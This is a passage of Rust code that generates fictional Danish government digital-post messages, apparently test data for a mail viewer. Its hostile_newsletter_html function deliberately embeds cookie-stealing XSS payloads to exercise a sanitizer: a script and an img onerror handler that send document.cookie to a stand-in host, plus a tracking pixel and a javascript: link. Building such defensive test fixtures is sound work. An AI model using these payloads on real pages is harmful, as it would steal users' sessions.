        draft("kommune-rollator", KOMMUNE, "Hjælpemiddelcentret", to, c.ago(90, 10, 0), "Bevilling af rollator")
            .contact("hjaelpemidler")
            .body(vec![
                p("Du har fået bevilget en rollator som udlån. Rollatoren bliver bragt ud til dig inden for 10 hverdage. Chaufføren ringer dagen før."),
                p("Rollatoren er et udlån. Når du ikke længere har brug for den, skal du give os besked, så henter vi den."),
                p("Går rollatoren i stykker, reparerer vi den gratis. Skriv eller ring til Hjælpemiddelcentret."),
            ]),
    );

    // Karen: road works on her street.
    out.push(
        draft("kommune-vejarbejde", KOMMUNE, "Veje og Trafik", to, c.ago(16, 8, 45), "Vejarbejde på Strandvejen")
            .contact("veje")
            .no_case()
            .body(vec![
                p(format!(
                    "Fra {} lægger vi ny belægning på Strandvejen mellem nr. 1 og nr. 60. Arbejdet varer cirka tre uger.",
                    danish::date(day(c.ahead(3, 7, 0)))
                )),
                bullets([
                    "Der vil være kørsel med store maskiner mellem kl. 7 og 17 på hverdage.",
                    "Du kan altid komme til og fra din bolig til fods.",
                    "På enkelte dage kan du ikke køre til din indkørsel. Vi sætter sedler i postkassen to dage før.",
                    "Affaldet bliver hentet som normalt.",
                ]),
                p("Har du brug for, at hjemmeplejen eller en taxa kan køre helt frem, så skriv til os, så finder vi en løsning."),
            ]),
    );

    // Everyone: the new waste sorting (old, mass letter with a leaflet).
    for (key, person) in [
        ("kommune-affaldsordning-karen", KAREN),
        ("kommune-affaldsordning-anders", ANDERS),
        ("kommune-affaldsordning-sofie", SOFIE),
        ("kommune-affaldsordning-jens", JENS),
    ] {
        let to = To::Person(person);
        out.push(
            draft(key, KOMMUNE, "Affald og Genbrug", to, c.ago(150, 7, 30), "Ny affaldsordning: Sådan sorterer du")
                .contact("affald")
                .no_case()
                .body(vec![
                    p("Om fire uger får du nye affaldsbeholdere. Så skal du sortere dit affald i ti typer, som det gælder i hele landet."),
                    facts([
                        ("Beholder 1", "Restaffald og madaffald".to_owned()),
                        ("Beholder 2", "Papir og pap".to_owned()),
                        ("Beholder 3", "Plast og mad- og drikkekartoner".to_owned()),
                        ("Beholder 4", "Glas og metal".to_owned()),
                    ]),
                    p("Farligt affald som batterier og maling afleverer du i den røde boks eller på genbrugspladsen. Tekstiler afleverer du på genbrugspladsen."),
                    p("I sorteringsvejledningen kan du se, hvad der skal i hvilken beholder. Du behøver ikke gøre noget for at få de nye beholdere."),
                ])
                .attach("Sorteringsvejledning", vec![
                    h("Madaffald"),
                    p("Madrester, kaffegrums, teposer og brugt køkkenrulle. Brug de grønne poser, du får sammen med beholderen."),
                    h("Plast"),
                    p("Plastbøtter, plastposer, flasker fra shampoo og opvaskemiddel. Skyl emballagen let."),
                    h("Glas og metal"),
                    p("Syltetøjsglas, flasker, konservesdåser og låg. Skal ikke skylles grundigt; det er nok, at det ikke lugter."),
                    h("Det må ikke komme i beholderne"),
                    bullets([
                        "Batterier, elektronik og sparepærer",
                        "Maling, kemikalier og spraydåser med indhold",
                        "Jord, sten og haveaffald",
                    ]),
                ]),
        );
    }

    // Anders: moved house, new doctor (old).
    let to = To::Person(ANDERS);
    out.push(
        draft("kommune-flytning", KOMMUNE, "Borgerservice", to, c.ago(270, 12, 5), "Kvittering for flytning")
            .contact("flytning")
            .body(vec![
                p("Vi har registreret din flytning i Folkeregistret."),
                facts([
                    ("Ny adresse", "Bakkedraget 7, 1. tv., 7599 Fjordmark".to_owned()),
                    ("Flyttedato", danish::date(day(c.ago(274, 12, 0)))),
                ]),
                p("Myndigheder, der bruger dine oplysninger fra Folkeregistret, får automatisk din nye adresse. Husk selv at give besked til dit forsikringsselskab, din bank og din arbejdsgiver."),
                p("Du får et nyt sundhedskort i et separat brev."),
            ]),
    );
    out.push(
        draft("kommune-sundhedskort", KOMMUNE, "Borgerservice", to, c.ago(268, 9, 50), "Dit nye sundhedskort")
            .contact("sundhedskort")
            .body(vec![
                p("Fordi du er flyttet, har du fået en ny læge og et nyt sundhedskort. Det digitale sundhedskort i appen er opdateret. Et plastkort bliver sendt til dig, hvis du har bestilt et."),
                facts([
                    ("Din læge", "Lægerne i Bakkegården, Bakkegade 2, 7599 Fjordmark".to_owned()),
                    ("Telefon", "18 90 22 10".to_owned()),
                ]),
                p("Vil du hellere have en anden læge, kan du skifte i selvbetjeningen. Det koster et gebyr, hvis du skifter mere end én gang inden for tre måneder."),
            ])
            .action(link(ActionCode::Selvbetjening, "Skift læge", "https://selvbetjening.fjordmark.example/laegevalg", None)),
    );

    // Anders: a municipal newsletter in HTML with hostile markup for the sanitizer.
    out.push(
        draft(
            KOMMUNE_HTML_NEWSLETTER_KEY,
            KOMMUNE,
            "Affald og Genbrug",
            to,
            c.ago(14, 7, 55),
            "Nyhedsbrev: Ny genbrugsplads åbner",
        )
        .contact("affald")
        .no_case()
        .html(hostile_newsletter_html()),
    );

    // Jens: a building permit for a carport (legal notification, with a leaflet).
    let to = To::Person(JENS);
    out.push(
        draft("kommune-carport-tilladelse", KOMMUNE, "Byggesager, Teknik og Miljø", to, c.ago(55, 13, 25), "Byggetilladelse til carport")
            .contact("byggesag")
            .signer("Thomas Vinther, byggesagsbehandler")
            .legal()
            .kle("02.34.02", "Byggetilladelse")
            .property("0412788")
            .body(vec![
                p("Du har søgt om tilladelse til at opføre en carport på din ejendom Møllevej 22, 7599 Fjordmark. Du får hermed tilladelse."),
                facts([
                    ("Ejendom", "Møllevej 22, 7599 Fjordmark".to_owned()),
                    ("Ejendomsnummer", "0412788".to_owned()),
                    ("Byggeri", "Carport på 36 m², åben mod vejen".to_owned()),
                    ("Højde", "Højst 2,5 meter".to_owned()),
                ]),
                h("Vilkår for tilladelsen"),
                bullets([
                    "Carporten skal placeres mindst 2,5 meter fra skel mod naboen på Møllevej 20.",
                    "Tagvand skal ledes til din egen grund og må ikke løbe ind på naboens grund.",
                    "Du skal give os besked, når byggeriet er færdigt. Du må ikke tage carporten i brug, før vi har registreret den i BBR.",
                ]),
                h("Begrundelse"),
                p("Byggeriet overholder reglerne i bygningsreglementet og lokalplanen for området, når vilkårene ovenfor overholdes. Vi har ikke hørt naboerne, fordi carporten ikke påvirker dem mere end sædvanligt."),
                p("Tilladelsen bortfalder, hvis byggeriet ikke er påbegyndt inden et år fra i dag."),
                h("Klagevejledning"),
                p("Du og andre med en væsentlig interesse i sagen kan klage over afgørelsen til Planklagenævnet. Klagefristen er 4 uger fra i dag. Læs mere i vedlagte vejledning."),
            ])
            .attach("Vejledning om klage over byggetilladelse", vec![
                p("Du klager via Klageportalen, som du finder på Planklagenævnets hjemmeside. Klagen sendes gennem Fjordmark Kommune."),
                h("Gebyr"),
                p("Det koster et gebyr at klage. Du får gebyret tilbage, hvis du får helt eller delvist medhold."),
                h("Byggeri, mens der er klaget"),
                p("En klage har ikke opsættende virkning. Du må gerne bygge, mens klagen behandles, men du gør det på egen risiko. Får klageren medhold, kan du blive pålagt at fjerne byggeriet."),
            ]),
    );

    // Jens: property tax (old, information).
    out.push(
        draft("kommune-ejendomsskat", KOMMUNE, "Opkrævningen", to, c.ago(60, 8, 0), "Oversigt over ejendomsskat")
            .contact("ejendomsskat")
            .property("0412788")
            .body(vec![
                p("Her er en oversigt over ejendomsskatten for Møllevej 22. Beløbet betales i to rater via Betalingsservice."),
                facts([
                    ("Grundskyld", danish::kroner(1_184_400)),
                    ("1. rate", danish::kroner(592_200)),
                    ("2. rate", danish::kroner(592_200)),
                    ("Betaling", "Betalingsservice, som tidligere".to_owned()),
                ]),
                p("Du skal ikke gøre noget. Er du uenig i vurderingen af din grund, skal du skrive til Statens Skattekontor."),
            ]),
    );

    // The café: outdoor seating. A hearing with a reply deadline and a fee to pay.
    let to = To::Company(CAFE_HAVNEKANTEN);
    let hearing_by = c.deadline(9);
    out.push(
        draft("kommune-udeservering-hoering", KOMMUNE, "Veje og Trafik", to, c.ago(8, 11, 0), "Partshøring: Ansøgning om udeservering")
            .contact("udeservering")
            .signer("Rasmus Holt")
            .reply(Some(hearing_by))
            .kle("05.00.00", "Veje og trafik")
            .body(vec![
                p("Vi har modtaget jeres ansøgning om tilladelse til udeservering på fortovet foran Havnepladsen 2."),
                p("Før vi træffer afgørelse, vil vi give jer mulighed for at komme med bemærkninger til det, vi lægger vægt på."),
                h("Det forventer vi at give tilladelse til"),
                bullets([
                    "Seks borde med fire stole i perioden 1. april til 30. september.",
                    "Udeservering mellem kl. 10 og 22.",
                    "Der skal være mindst 1,5 meter fri passage på fortovet.",
                ]),
                h("Det forventer vi ikke at give tilladelse til"),
                p("Parasoller, der rager ud over cykelstien. De kan være til fare for cyklister."),
                p(format!(
                    "Send jeres bemærkninger senest {} ved at svare på denne besked. Hører vi ikke fra jer, træffer vi afgørelse ud fra de oplysninger, vi har.",
                    danish::weekday_date(day(hearing_by))
                )),
            ]),
    );
    let fee_by = c.deadline(6);
    out.push(
        draft("kommune-udeservering-gebyr", KOMMUNE, "Opkrævningen", to, c.ago(12, 9, 30), "Opkrævning: Gebyr for ansøgning om udeservering")
            .contact("udeservering")
            .body(vec![
                p("Vi opkræver gebyr for behandling af jeres ansøgning om udeservering."),
                facts([
                    ("Beløb", danish::kroner(185_000)),
                    ("Betalingsfrist", danish::weekday_date(day(fee_by))),
                    ("FI-kort", "+71< 000000412345678 +83456789<".to_owned()),
                ]),
                p("Betal via jeres netbank med oplysningerne ovenfor eller via linket i beskeden. Betaler I for sent, sender vi en rykker med et rykkergebyr på 100,00 kr."),
            ])
            .action(link(ActionCode::Betaling, "Betal gebyret", "https://betaling.fjordmark.example/udeservering", Some(fee_by))),
    );

    // The plumbers: their registration at the recycling centre (old).
    let to = To::Company(LYNGBAKKEN_VVS);
    out.push(
        draft("kommune-erhvervsaffald", KOMMUNE, "Affald og Genbrug", to, c.ago(95, 10, 10), "Registrering på genbrugspladsen er fornyet")
            .contact("erhvervsaffald")
            .vehicle("FM 71 204")
            .body(vec![
                p("Jeres virksomhed er fortsat registreret til at aflevere affald på genbrugspladserne i Fjordmark Kommune."),
                facts([
                    ("Køretøj", "Varebil, FM 71 204".to_owned()),
                    ("Ordning", "Betaling pr. besøg".to_owned()),
                    ("Pris", "195,00 kr. ekskl. moms pr. besøg".to_owned()),
                ]),
                p("Vis registreringsnummeret ved indkørslen. I får en samlet regning hver måned."),
            ]),
    );
}

/// A newsletter as real senders write it, with what a viewer must never run or fetch: a
/// script, an image whose error handler runs code, a remote image that would tell the sender
/// when the letter is read, and a `javascript:` link.
fn hostile_newsletter_html() -> String {
    r#"<!DOCTYPE html>
<html lang="da">
<head>
<meta charset="utf-8">
<title>Nyt fra Affald og Genbrug</title>
<script>document.location = "https://sporing.invalid/stjal?c=" + document.cookie;</script>
<style>body { font-family: Arial, sans-serif; color: #222; } h1 { color: #005e78; }</style>
</head>
<body>
<img src="https://nyhedsbrev.fjordmark.example/pixel.gif?m=8f3a2c" width="1" height="1" alt="">
<h1>Ny genbrugsplads åbner</h1>
<p>Kære borger</p>
<p>Den nye genbrugsplads på Industrivej åbner om en måned. Den har længere åbningstider og plads til flere biler, så du slipper for at holde i kø.</p>
<img src="x" onerror="fetch('https://sporing.invalid/?'+document.cookie)" alt="Kort over den nye genbrugsplads">
<h2>Åbningstider</h2>
<ul>
<li>Mandag til fredag kl. 7–19</li>
<li>Lørdag og søndag kl. 9–17</li>
</ul>
<p>Den gamle plads på Havnevej lukker samme dag.</p>
<p><a href="javascript:alert('hej')">Se alle åbningstider</a></p>
<p>Med venlig hilsen<br>Affald og Genbrug, Fjordmark Kommune</p>
</body>
</html>
"#
    .to_owned()
}

// ---------------------------------------------------------------------------------------------
// Statens Skattekontor

fn skat(c: &Ctx<'_>, out: &mut Vec<Draft>) {
    // Everyone's annual statement (old, mandatory).
    let statements: [(&'static str, &'static str, i64, [i64; 3]); 4] = [
        // key, person, days ago, [personal income, tax paid, result (negative: refund)]
        (
            "skat-aarsopgoerelse-karen",
            KAREN,
            236,
            [18_640_000, 5_102_300, -84_600],
        ),
        (
            "skat-aarsopgoerelse-anders",
            ANDERS,
            236,
            [49_820_000, 17_240_100, 481_200],
        ),
        (
            "skat-aarsopgoerelse-sofie",
            SOFIE,
            235,
            [31_210_000, 9_873_500, -212_400],
        ),
        (
            "skat-aarsopgoerelse-jens",
            JENS,
            237,
            [56_400_000, 20_118_900, -98_700],
        ),
    ];
    for (key, person, days, [income, paid, result]) in statements {
        let to = To::Person(person);
        let created = c.ago(days, 6, 0);
        let year = day(created).year() - 1;
        let outcome = if result > 0 {
            ("Restskat", danish::kroner(result))
        } else {
            ("Overskydende skat", danish::kroner(-result))
        };
        let explanation = if result > 0 {
            p(
                "Du har betalt for lidt i skat. Restskatten bliver lagt til din forskudsskat for næste år, hvis du ikke betaler den inden 1. juli. Så skal du betale et dagligt procenttillæg.",
            )
        } else {
            p(
                "Du har betalt for meget i skat. Pengene bliver udbetalt til din NemKonto inden for tre uger.",
            )
        };
        out.push(
            draft(key, SKAT, "Personskat", to, created, format!("Din årsopgørelse for {year}"))
                .contact("aarsopgoerelse")
                .mandatory()
                .no_case()
                .body(vec![
                    p(format!("Din årsopgørelse for {year} er klar. Den viser, hvad du har tjent, og hvor meget du har betalt i skat.")),
                    facts([
                        ("Personlig indkomst", danish::kroner(income)),
                        ("Betalt skat", danish::kroner(paid)),
                        outcome,
                    ]),
                    explanation,
                    p("Se efter, om oplysningerne er rigtige. Mangler der et fradrag, fx for kørsel til arbejde eller renter på et lån, kan du selv rette det på Mine Skatter."),
                ])
                .action(link(ActionCode::Selvbetjening, "Se din årsopgørelse på Mine Skatter", "https://mineskatter.skattekontoret.example/aarsopgoerelse", None)),
        );
    }

    // Anders: unpaid balance; its deadline has passed (the one overdue deadline of the world).
    let to = To::Person(ANDERS);
    let due = c.deadline(-3);
    out.push(
        draft("skat-restskat-opkraevning", SKAT, "Opkrævning", to, c.ago(26, 6, 0), "Opkrævning af restskat")
            .contact("restskat")
            .mandatory()
            .body(vec![
                p("Du har ikke betalt hele din restskat. Vi opkræver nu det resterende beløb."),
                facts([
                    ("Restskat", danish::kroner(481_200)),
                    ("Procenttillæg", danish::kroner(25_500)),
                    ("I alt", danish::kroner(506_700)),
                    ("Betalingsfrist", danish::weekday_date(day(due))),
                ]),
                p("Betal via Mine Skatter eller din netbank. Betaler du ikke til tiden, sender vi beløbet til inddrivelse, og der kommer renter til."),
                p("Kan du ikke betale det hele på én gang, kan du søge om en afdragsordning."),
            ])
            .action(link(ActionCode::Betaling, "Betal restskat", "https://mineskatter.skattekontoret.example/betal", Some(due))),
    );

    // Jens: a decision changing his tax (legal notification, with a leaflet).
    let to = To::Person(JENS);
    let created = c.ago(15, 10, 40);
    let year = day(created).year() - 1;
    out.push(
        draft("skat-afgoerelse-befordring", SKAT, "Personskat", to, created, format!("Afgørelse: Ændring af din skat for {year}"))
            .contact("aarsopgoerelse")
            .legal()
            .mandatory()
            .body(vec![
                p(format!("Vi har ændret din skatteansættelse for {year}. Vi har tidligere sendt dig et forslag, og vi har ikke modtaget bemærkninger fra dig.")),
                h("Ændringen"),
                facts([
                    ("Befordringsfradrag før", danish::kroner(2_168_000)),
                    ("Befordringsfradrag nu", danish::kroner(1_084_000)),
                    ("Skat, du skal betale ekstra", danish::kroner(279_700)),
                ]),
                h("Begrundelse"),
                p("Du har fået fradrag for kørsel mellem hjem og arbejde 218 dage. Din arbejdsgiver har oplyst, at du i halvdelen af dagene har kørt i virksomhedens varebil. Kørsel i arbejdsgiverens bil giver ikke ret til befordringsfradrag."),
                p("Beløbet kommer med på din næste årsopgørelse. Du skal ikke betale noget nu."),
                h("Klage"),
                p("Du kan klage over afgørelsen inden for 3 måneder. Læs hvordan i vedlagte klagevejledning."),
            ])
            .attach("Klagevejledning", klagevejledning("3 måneder", "Skatteankestyrelsen")),
    );

    // The plumbers: VAT due within days (company post, mandatory), and an old receipt.
    let to = To::Company(LYNGBAKKEN_VVS);
    let vat_by = c.deadline(4);
    let created = c.ago(10, 6, 0);
    out.push(
        draft("skat-moms-frist", SKAT, "Erhverv", to, created, "Husk at angive og betale moms")
            .contact("moms")
            .mandatory()
            .no_case()
            .body(vec![
                p(format!(
                    "Fristen for at angive og betale moms for perioden, der sluttede i {}, er {}.",
                    danish::month_year(day(created - Duration::days(20))),
                    danish::weekday_date(day(vat_by))
                )),
                p("Angiv momsen på Erhvervsportalen. Skal I betale, skal beløbet være på vores konto senest på fristdagen."),
                p("Angiver I for sent, får I en foreløbig fastsættelse og et gebyr på 800,00 kr. Betaler I for sent, kommer der renter til."),
            ])
            .action(link(ActionCode::Selvbetjening, "Angiv moms", "https://erhverv.skattekontoret.example/moms/angiv", Some(vat_by)))
            .action(link(ActionCode::Betaling, "Betal moms", "https://erhverv.skattekontoret.example/moms/betal", Some(vat_by))),
    );
    out.push(
        draft(
            "skat-moms-kvittering",
            SKAT,
            "Erhverv",
            to,
            c.ago(100, 14, 2),
            "Kvittering for momsangivelse",
        )
        .contact("moms")
        .body(vec![
            p("Vi har modtaget jeres momsangivelse."),
            facts([
                ("Salgsmoms", danish::kroner(14_862_500)),
                ("Købsmoms", danish::kroner(9_140_250)),
                ("Moms at betale", danish::kroner(5_722_250)),
            ]),
            p("Har I allerede betalt, skal I ikke gøre mere."),
        ]),
    );

    // The café: payroll reporting due within days.
    let to = To::Company(CAFE_HAVNEKANTEN);
    let created = c.ago(4, 6, 0);
    let report_by = c.deadline(5);
    out.push(
        draft("skat-loenindberetning", SKAT, "Erhverv", to, created, "Påmindelse: Indberet løn")
            .contact("a-skat")
            .no_case()
            .body(vec![
                p(format!(
                    "Vi har ikke modtaget jeres indberetning af løn, A-skat og AM-bidrag for {}. Fristen er {}.",
                    danish::month_year(day(created - Duration::days(25))),
                    danish::weekday_date(day(report_by))
                )),
                p("Har I ikke haft ansatte i perioden, skal I indberette nul."),
            ])
            .action(link(ActionCode::Selvbetjening, "Indberet løn", "https://erhverv.skattekontoret.example/eindkomst", Some(report_by))),
    );
}

// ---------------------------------------------------------------------------------------------
// Region Midtkyst

fn region(c: &Ctx<'_>, out: &mut Vec<Draft>) {
    let organizer = (
        "Fjordmark Sygehus, Ortopædkirurgisk Ambulatorium",
        "ortopaed.fjordmark@regionmidtkyst.example",
    );
    let to = To::Person(KAREN);

    // Karen: a summons for an examination; the action asks her to come 25 minutes before the
    // booked time (as real senders do), and two leaflets.
    let start = c.ahead(12, 9, 40);
    let booked = appointment(
        "Forundersøgelse, Ortopædkirurgisk Ambulatorium",
        start,
        50,
        "Fjordmark Sygehus, Indgang B, 2. sal, Ortopædkirurgisk Ambulatorium",
        "Forundersøgelse af dit højre knæ før en mulig operation.",
        organizer,
        "region-ortopaed-indkaldelse",
    );
    out.push(
        draft("region-ortopaed-indkaldelse", REGION, "Ortopædkirurgisk Ambulatorium", to, c.ago(30, 15, 10), "Indkaldelse til forundersøgelse")
            .contact("ortopaed")
            .text_alternative()
            .body(vec![
                p("Du er henvist til Ortopædkirurgisk Ambulatorium på grund af smerter i dit højre knæ. Du er indkaldt til en forundersøgelse."),
                facts([
                    ("Tidspunkt", danish::weekday_date_time(start)),
                    ("Mødetid", danish::time(start - Duration::minutes(25))),
                    ("Sted", "Fjordmark Sygehus, Indgang B, 2. sal".to_owned()),
                    ("Afdeling", "Ortopædkirurgisk Ambulatorium".to_owned()),
                ]),
                p("Mød op 25 minutter før, så vi kan nå at tage et røntgenbillede af dit knæ inden samtalen med lægen."),
                p("Ved undersøgelsen taler du med en læge om dine smerter, og lægen undersøger dit knæ. Sammen beslutter I, om du skal opereres. Du er velkommen til at tage en pårørende med."),
                h("Tag med"),
                bullets([
                    "En liste over den medicin, du tager",
                    "Shorts eller en nederdel, så lægen kan se dit knæ",
                ]),
                p("Kan du ikke komme, så ring til os på 18 12 52 00 på hverdage mellem kl. 8 og 14, eller skriv til os. Hvis du udebliver uden at melde afbud, kan det forlænge din ventetid."),
            ])
            .action(appointment_with_action_times(booked, start - Duration::minutes(25), start + Duration::minutes(50)))
            .attach("Før din undersøgelse", vec![
                p("Du må gerne spise og drikke som normalt inden undersøgelsen."),
                p("Tag din sædvanlige medicin. Tager du blodfortyndende medicin, skal du fortsætte med den, indtil lægen siger andet."),
                h("Parkering"),
                p("Der er gratis parkering ved Indgang B. Handicapparkering findes lige ved døren."),
            ])
            .attach("Kørsel til sygehuset", vec![
                p("Du kan få kørsel til sygehuset, hvis du ikke kan bruge offentlig transport eller køre selv på grund af dit helbred."),
                p("Bestil kørsel senest to hverdage før på telefon 18 12 55 55. Du skal oplyse dit CPR-nummer og tidspunktet for din undersøgelse."),
            ]),
    );
    // A NemSMS reminder of it.
    out.push(
        draft("region-sms-paamindelse", REGION, "Ortopædkirurgisk Ambulatorium", to, c.ago(2, 10, 0), "Påmindelse om tid på Fjordmark Sygehus")
            .contact("patientkontoret")
            .sms(format!(
                "Husk din tid på Fjordmark Sygehus, Ortopædkirurgisk Ambulatorium, {} {}. Mød op 25 min. før. Afbud: 18 12 52 00",
                danish::date(day(start)),
                danish::time(start)
            )),
    );
    // A questionnaire with a deadline.
    let survey_by = c.deadline(10);
    out.push(
        draft("region-spoergeskema", REGION, "Patientkontoret", to, c.ago(20, 9, 0), "Hvordan var dit besøg på sygehuset?")
            .contact("patientkontoret")
            .no_case()
            .body(vec![
                p("Du har for nylig været på Fjordmark Sygehus. Vi vil gerne høre om din oplevelse, så vi kan blive bedre."),
                p(format!(
                    "Spørgeskemaet tager cirka 5 minutter. Du kan svare frem til {}. Det er frivilligt at svare, og dine svar er anonyme.",
                    danish::weekday_date(day(survey_by))
                )),
            ])
            .action(link(ActionCode::Selvbetjening, "Besvar spørgeskemaet", "https://sporgeskema.regionmidtkyst.example/besoeg", Some(survey_by))),
    );
    // An X-ray half a year ago, and its result.
    let xray = c.ago(205, 11, 15);
    out.push(
        draft(
            "region-roentgen-indkaldelse",
            REGION,
            "Røntgen og Skanning",
            to,
            c.ago(215, 12, 30),
            "Indkaldelse til røntgen af knæ",
        )
        .contact("roentgen")
        .body(vec![
            p("Din læge har henvist dig til røntgen af dit højre knæ."),
            facts([
                ("Tidspunkt", danish::weekday_date_time(xray)),
                (
                    "Sted",
                    "Fjordmark Sygehus, Indgang A, Røntgen og Skanning".to_owned(),
                ),
            ]),
            p("Undersøgelsen tager cirka 15 minutter. Du skal ikke forberede dig."),
        ])
        .action(appointment(
            "Røntgen af knæ",
            xray,
            15,
            "Fjordmark Sygehus, Indgang A, Røntgen og Skanning",
            "Røntgen af højre knæ",
            (
                "Fjordmark Sygehus, Røntgen og Skanning",
                "roentgen.fjordmark@regionmidtkyst.example",
            ),
            "region-roentgen-indkaldelse",
        )),
    );
    out.push(
        draft("region-roentgen-svar", REGION, "Røntgen og Skanning", to, c.ago(180, 14, 45), "Svar på din røntgenundersøgelse")
            .contact("roentgen")
            .body(vec![
                p("Vi har sendt svaret på din røntgenundersøgelse til din egen læge. Billederne viser slidgigt i dit højre knæ."),
                p("Din læge kontakter dig for at tale om svaret og om, hvad der nu skal ske. Du kan også se svaret på sundhed.example under Mine undersøgelser."),
            ]),
    );

    // Anders: a blood test (old).
    let to = To::Person(ANDERS);
    let blood = c.ago(40, 8, 10);
    out.push(
        draft(
            "region-blodproeve",
            REGION,
            "Klinisk Biokemi",
            to,
            c.ago(45, 12, 0),
            "Tid til blodprøve",
        )
        .contact("medicinsk")
        .body(vec![
            p("Du har fået en tid til blodprøve."),
            facts([
                ("Tidspunkt", danish::weekday_date_time(blood)),
                (
                    "Sted",
                    "Fjordmark Sygehus, Indgang A, Blodprøvetagningen".to_owned(),
                ),
            ]),
            p("Du skal faste fra kl. 22 aftenen før. Du må gerne drikke vand."),
        ])
        .action(appointment(
            "Blodprøve",
            blood,
            10,
            "Fjordmark Sygehus, Indgang A, Blodprøvetagningen",
            "Fasteblodprøve",
            (
                "Fjordmark Sygehus, Klinisk Biokemi",
                "blodprove.fjordmark@regionmidtkyst.example",
            ),
            "region-blodproeve",
        )),
    );

    // Sofie and Jens: screening invitations (old).
    let to = To::Person(SOFIE);
    out.push(
        draft("region-screening-livmoderhals", REGION, "Screeningssekretariatet", to, c.ago(70, 7, 0), "Invitation til screening for livmoderhalskræft")
            .contact("screening")
            .no_case()
            .body(vec![
                p("Du inviteres til screening for livmoderhalskræft. Screeningen kan finde celleforandringer, før de udvikler sig til kræft."),
                p("Bestil tid hos din egen læge. Prøven tager kun få minutter. Det er gratis og frivilligt at deltage."),
                p("Du får svar fra din læge cirka to uger efter prøven."),
            ])
            .action(link(ActionCode::Selvbetjening, "Læs mere og fravælg screening", "https://screening.regionmidtkyst.example/livmoderhals", None)),
    );
    let to = To::Person(JENS);
    out.push(
        draft("region-screening-tarm", REGION, "Screeningssekretariatet", to, c.ago(130, 7, 0), "Invitation til screening for tarmkræft")
            .contact("screening")
            .no_case()
            .body(vec![
                p("Du inviteres til screening for tarmkræft. Du får et prøvesæt med posten i løbet af en uge."),
                p("Du tager prøven hjemme og sender den tilbage i den vedlagte svarkuvert. Det er gratis og frivilligt at deltage."),
                p("Læs vejledningen, før du tager prøven."),
            ])
            .attach("Vejledning til prøvesættet", vec![
                bullets([
                    "Skriv datoen for prøven på røret.",
                    "Tag en lille prøve af afføringen med pinden, og sæt den tilbage i røret.",
                    "Send prøven samme dag eller dagen efter.",
                ]),
                p("Du får svar i Digital Post inden for to uger."),
            ]),
    );
    // Jens: an answer to a question he wrote, linked to his message.
    out.push(
        draft("region-svar-befordring", REGION, "Befordringskontoret", to, c.ago(33, 13, 15), "Svar på din henvendelse om kørsel")
            .contact("befordring")
            .signer("Anne Mølgaard")
            .in_reply_to(ReplyData {
                message_id: None,
                message_uuid: stable_uuid("message/jens-henvendelse-befordring"),
                reply_uuid: None,
                sender_id: None,
                recipient_id: None,
                case_id: None,
                contact_point_id: Some(contacts::point_id(REGION, "befordring").to_string()),
                generating_system_id: None,
                comment: None,
                additional_reply_data: Vec::new(),
            })
            .body(vec![
                p("Tak for din besked om kørsel til din mors undersøgelser på Fjordmark Sygehus."),
                p("Man kan få befordringsgodtgørelse, hvis man bor mere end 50 km fra sygehuset. Din mor bor 11 km fra sygehuset og kan derfor ikke få godtgørelse efter afstandsreglen."),
                p("Kan hun ikke tage bus eller taxa på grund af sit helbred, kan hendes læge bestille liggende eller siddende sygetransport."),
            ]),
    );
}

// ---------------------------------------------------------------------------------------------
// Statens Ydelseskontor

fn ydelse(c: &Ctx<'_>, out: &mut Vec<Draft>) {
    let to = To::Person(KAREN);
    let created = c.ago(330, 6, 30);
    out.push(
        draft("ydelse-folkepension-aar", YDELSE, "Pension", to, created, format!("Din folkepension fra 1. januar {}", day(created + Duration::days(62)).year()))
            .contact("folkepension")
            .body(vec![
                p("Her kan du se, hvor meget du får i folkepension om måneden fra 1. januar."),
                facts([
                    ("Grundbeløb", danish::kroner(752_800)),
                    ("Pensionstillæg", danish::kroner(894_200)),
                    ("Før skat", danish::kroner(1_647_000)),
                    ("Skat (trækprocent 37)", danish::kroner(-471_400)),
                    ("Udbetales", danish::kroner(1_175_600)),
                ]),
                p("Pensionen udbetales bagud den sidste hverdag i måneden til din NemKonto."),
                p("Du skal give os besked, hvis din indkomst eller formue ændrer sig, eller hvis du flytter sammen med nogen."),
            ]),
    );
    out.push(
        draft(
            "ydelse-aeldrecheck",
            YDELSE,
            "Pension",
            to,
            c.ago(160, 6, 30),
            "Du får ældrecheck",
        )
        .contact("aeldrecheck")
        .body(vec![
            p("Du får ældrecheck i år, fordi din formue er under grænsen."),
            facts([
                ("Ældrecheck", danish::kroner(2_010_000)),
                ("Skat", danish::kroner(-743_700)),
                ("Udbetales", danish::kroner(1_266_300)),
            ]),
            p("Beløbet bliver udbetalt til din NemKonto sammen med din folkepension."),
        ]),
    );
    // Karen: information needed within days; she may answer by replying.
    let reply_by = c.deadline(8);
    out.push(
        draft("ydelse-formue-oplysninger", YDELSE, "Pension", to, c.ago(7, 6, 30), "Vi mangler oplysninger om din formue")
            .contact("aeldrecheck")
            .reply(Some(reply_by))
            .body(vec![
                p("Vi er ved at se på, om du fortsat kan få ældrecheck og helbredstillæg. Vi har brug for oplysninger om din formue."),
                p(format!(
                    "Udfyld det vedlagte skema, og send det til os senest {}. Du kan svare på denne besked og vedhæfte skemaet.",
                    danish::weekday_date(day(reply_by))
                )),
                p("Får vi ikke oplysningerne inden fristen, stopper vi udbetalingen af ældrecheck og helbredstillæg, indtil vi har dem."),
                p("Har du en pårørende, der hjælper dig med din post, kan de også hjælpe dig med skemaet."),
            ])
            .attach("Oplysningsskema om formue", vec![
                p("Skriv beløbene, som de så ud den 31. december sidste år."),
                facts([
                    ("Indestående i bank", "________ kr.".to_owned()),
                    ("Værdipapirer", "________ kr.".to_owned()),
                    ("Kontanter over 10.000 kr.", "________ kr.".to_owned()),
                    ("Bil, båd eller campingvogn", "________ kr.".to_owned()),
                ]),
                p("Formue i din bolig skal du ikke oplyse."),
            ]),
    );

    // Sofie: quarterly child benefit.
    let to = To::Person(SOFIE);
    for (key, days) in [
        ("ydelse-boerneydelse-1", 330),
        ("ydelse-boerneydelse-2", 240),
        ("ydelse-boerneydelse-3", 150),
        ("ydelse-boerneydelse-4", 60),
    ] {
        let created = c.ago(days, 6, 45);
        let paid = weekday_on_or_after(day(created + Duration::days(10)));
        out.push(
            draft(key, YDELSE, "Familieydelser", to, created, format!("Udbetaling af børne- og ungeydelse, {}", danish::month_year(paid)))
                .contact("boerneydelse")
                .about_child(c, EMIL_CPR)
                .no_case()
                .body(vec![
                    p("Du får udbetalt børne- og ungeydelse for det kommende kvartal."),
                    facts([
                        ("Barn", format!("Emil Nørgaard, {}", danish::cpr(EMIL_CPR))),
                        ("Beløb", danish::kroner(528_300)),
                        (
                            "Udbetales",
                            format!(
                                "{} til din NemKonto",
